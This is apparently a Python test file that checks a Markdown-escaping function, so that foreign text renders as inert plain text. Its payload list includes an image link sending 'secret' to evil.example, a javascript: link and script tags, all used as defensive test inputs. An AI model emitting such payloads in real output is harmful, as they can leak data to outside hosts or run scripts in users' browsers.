"""Foreign text in Markdown stays text: it formats nothing, links nothing, and leaves its block never."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from index.markdown import literal

MARKDOWN_PAYLOADS = [
    "![x](http://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=http://evil.example>",
    "<script>alert(1)</script>",
    "http://evil.example/?q=secret",
    "www.evil.example",
    "evil.com/x",
    "@somebody",
    "[x][ref]",
    "`code`",
    "| a | b |",
    "# heading",
    "1. list",
    "- list",
    "&lt;b&gt;",
    "~~gone~~ **bold** _it_ $x^2$",
]


@pytest.mark.parametrize("payload", MARKDOWN_PAYLOADS)
def test_text_formats_nothing_in_markdown(payload):
    from markdown_it import MarkdownIt

    parser = MarkdownIt("gfm-like")
    rendered = parser.render(f"x {literal(payload)}")
    assert not re.search(r"<(?!/?p>)", rendered)
    alone = parser.render(literal(payload))
    assert re.fullmatch(r"<p>[^<]*</p>\n", alone)


@given(st.text(st.sampled_from("abc1 .-+*_`[](){}<>!#|~&$:/\\@=w\n\"'")))
def test_any_text_stays_one_plain_paragraph_in_markdown(text):
    from html import unescape

    from markdown_it import MarkdownIt

    rendered = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(f"> {literal(text)}")
    inside = re.fullmatch(r"<blockquote>\n?(?:<p>([^<]*)</p>\n)?</blockquote>\n", rendered)
    assert inside, rendered
    assert unescape(inside[1] or "") == " ".join(text.split())


@given(st.text("[]()!<>*_`#|-~.:/\\& aw1\n", max_size=40))
def test_markdown_shows_foreign_text_literally_and_links_nothing(words):
    from markdown_it import MarkdownIt

    parser = MarkdownIt("gfm-like", {"linkify": True})
    line = " ".join(words.split())
    tokens = parser.parse(literal(line))
    inline = [child for token in tokens for child in token.children or ()]
    assert not [t for t in inline if t.type not in ("text", "text_special")]
    assert "".join(t.content for t in inline) == line
